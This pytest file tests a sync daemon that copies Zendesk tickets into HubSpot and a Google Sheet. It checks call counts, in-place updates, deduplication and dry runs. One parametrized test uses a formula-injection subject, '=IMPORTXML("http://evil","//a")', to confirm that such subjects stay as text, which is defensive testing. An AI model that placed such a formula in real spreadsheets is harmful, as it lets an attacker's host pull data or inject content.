"""Issue acceptance: the full sync over real HTTP, counted with the sandbox's counters."""

from __future__ import annotations

import math

import pytest

from connectors.zendesk import SURVEY_TICKETS
from syncd.sandbox import SPREADSHEET_ID, Sandbox
from tests.conftest import Syncd

GOOD_BAD = ("good", "bad")  # a rated ticket's satisfaction_rating score


def sheet_rows(sandbox: Sandbox) -> list[list[str]]:
    return sandbox.sheets.values(SPREADSHEET_ID, "Tickets")


def hubspot_ids(sandbox: Sandbox) -> list[str]:
    return [t["properties"]["helpdesk_ticket_id"] for t in sandbox.hubspot.objects("tickets")]


@pytest.mark.slow
def test_5000_tickets_first_sync_idle_cycle_and_ten_changes(sandbox: Sandbox, syncd: Syncd):
    tickets = sandbox.zendesk.generate(5000, seed=1)
    sandbox.reset_counts()

    first = syncd.once()
    counts = sandbox.counts()
    assert (first.pulled, first.errors) == (5000, 0)
    assert first.sinks["hubspot"].written == 5000
    assert first.sinks["sheets"].written == 5000
    # Tickets, then their requesters' contacts and companies, then both associations.
    users = {t["requester_id"] for t in tickets}
    orgs = {t["organization_id"] for t in tickets if t["organization_id"]}
    batches = math.ceil(5000 / 100)
    expected = 3 * batches + math.ceil(len(users) / 100) + math.ceil(len(orgs) / 100)
    assert counts["hubspot"] <= expected
    # The tab list, one batch creating and formatting the tabs, and the cells (5,000 rows:
    # past 2 MB as updateCells, so they follow in the compact values form).
    assert counts["sheets"] <= 3
    # The export's pages (1,000 a page, plus the one that ends the stream), and for each page
    # the survey responses of its rated tickets, 100 tickets a request (the updated CSAT's
    # real score; connectors/zendesk.py SURVEY_TICKETS).
    pages = math.ceil(5000 / 1000)
    rated = [t for t in tickets if (t.get("satisfaction_rating") or {}).get("score") in GOOD_BAD]
    surveys = pages + math.ceil(len(rated) / SURVEY_TICKETS)  # a part-filled request a page
    assert counts["zendesk"] <= pages + 1 + surveys
    rows = sheet_rows(sandbox)
    assert rows[0][0] == "Ticket"
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(t["id"] for t in tickets)
    assert len(hubspot_ids(sandbox)) == 5000

    sandbox.reset_counts()
    second = syncd.once()
    assert (second.pulled, second.changed) == (0, 0)
    assert sandbox.counts().get("hubspot", 0) == 0
    assert sandbox.counts().get("sheets", 0) == 0
    assert sandbox.counts()["zendesk"] == 1

    changed = [t for t in tickets if t["status"] not in ("closed", "solved", "deleted")][100:110]
    for i, ticket in enumerate(changed):
        sandbox.zendesk.update_ticket(ticket["id"], subject=f"Refund request number {i}")
    positions = {r[0]: n for n, r in enumerate(sheet_rows(sandbox))}
    sandbox.reset_counts()

    third = syncd.once()
    counts = sandbox.counts()
    assert third.pulled == 10 and third.changed == 10
    assert third.sinks["hubspot"].written == 10 and third.sinks["sheets"].written == 10
    assert counts["hubspot"] == 1 and counts["sheets"] <= 2 and counts["zendesk"] == 1
    rows = sheet_rows(sandbox)
    assert len(rows) == 5001, "rows were updated in place, none appended"
    for i, ticket in enumerate(changed):
        row = rows[positions[str(ticket["id"])]]
        assert row[1] == f"Refund request number {i}"
        hub = sandbox.hubspot.find("tickets", "helpdesk_ticket_id", str(ticket["id"]))
        assert hub["properties"]["subject"] == f"Refund request number {i}"
    ids = hubspot_ids(sandbox)
    assert len(ids) == 5000 and len(set(ids)) == 5000, "no HubSpot ticket was duplicated"


@pytest.mark.parametrize(
    "subject", ['=IMPORTXML("http://evil","//a")', "+1 555 0100", "-2+3", "@mention me", "=1+1"]
)
def test_subjects_that_look_like_formulas_stay_text(sandbox: Sandbox, syncd: Syncd, subject):
    sandbox.zendesk.add_ticket(
        subject=subject, description="hi", requester_email="a@b.example", requester_name="A B"
    )
    report = syncd.once()
    assert report.errors == 0
    rows = sheet_rows(sandbox)
    assert rows[1][1] == subject
    cell = sandbox.sheets.cell(SPREADSHEET_ID, "Tickets", row=1, column=1)
    assert cell["userEnteredValue"] == {"stringValue": subject}


def test_category_and_priority_reach_both_sinks(sandbox: Sandbox, syncd: Syncd):
    ticket = sandbox.zendesk.add_ticket(
        subject="The site is down for all users",
        description="outage since 9am",
        requester_email="ops@initech.example",
    )
    syncd.once()
    row = sheet_rows(sandbox)[1]
    assert (row[7], row[8]) == ("Technical", "Critical")
    hub = sandbox.hubspot.objects("tickets")[0]["properties"]
    assert hub["helpdesk_ticket_id"] == str(ticket["id"])
    assert (hub["syncd_category"], hub["syncd_priority"]) == ("Technical", "Critical")
    assert hub["hs_ticket_priority"] == "URGENT"


def test_rerun_after_lost_state_creates_no_duplicates(sandbox: Sandbox, config_path, tmp_path):
    sandbox.zendesk.generate(250, seed=3)
    first = Syncd(config_path)
    first.setup()
    first.once()
    (tmp_path / "state.db").unlink()  # the daemon lost its memory: everything is re-sent
    second = Syncd(config_path)
    report = second.once()
    assert report.sinks["hubspot"].written == 250
    assert len(sheet_rows(sandbox)) == 251
    ids = hubspot_ids(sandbox)
    assert len(ids) == len(set(ids)) == 250


def test_dry_run_writes_nothing_and_keeps_the_cursor(sandbox: Sandbox, syncd: Syncd):
    sandbox.zendesk.generate(30, seed=2)
    report = syncd.once(dry_run=True)
    assert report.pulled == 30 and report.sinks["hubspot"].changed == 30
    assert "30" in (report.sinks["sheets"].plan or "")
    assert sandbox.counts().get("hubspot", 0) == 0 and sandbox.counts().get("sheets", 0) == 0
    assert syncd.parts.store.get_cursor("zendesk") is None
    real = syncd.once()
    assert real.sinks["sheets"].written == 30


@pytest.mark.slow
def test_rows_are_found_by_id_after_a_manager_sorts_and_formats(sandbox: Sandbox, syncd: Syncd):
    tickets = sandbox.zendesk.generate(1200, seed=4)
    syncd.once()
    rows = sheet_rows(sandbox)
    # A manager sorts the tab by subject (ids now out of order) and formats ids as 1,234.
    body = sorted(rows[1:], key=lambda r: r[1])
    sandbox.sheets.set_values(SPREADSHEET_ID, "Tickets", [rows[0], *body])
    sheet_id = sandbox.sheets.sheet(SPREADSHEET_ID, "Tickets")["properties"]["sheetId"]
    grid_body = {
        "requests": [
            {
                "repeatCell": {
                    "range": {
                        "sheetId": sheet_id,
                        "startRowIndex": 1,
                        "startColumnIndex": 0,
                        "endColumnIndex": 1,
                    },
                    "cell": {
                        "userEnteredFormat": {
                            "numberFormat": {"type": "NUMBER", "pattern": "#,##0"}
                        }
                    },
                    "fields": "userEnteredFormat.numberFormat",
                }
            }
        ]
    }
    syncd.parts.sinks[1].http.batch_update(SPREADSHEET_ID, grid_body)
    assert any("," in r[0] for r in sheet_rows(sandbox)[1:])
    target = next(t for t in tickets if t["id"] > 1000 and t["status"] not in ("closed", "solved"))
    sandbox.zendesk.update_ticket(target["id"], subject="zzz moved ticket")
    syncd.once()
    rows = sheet_rows(sandbox)
    assert len(rows) == 1201, "updated in place, not appended"
    (row,) = [r for r in rows if r[1] == "zzz moved ticket"]
    assert row[0].replace(",", "") == str(target["id"])
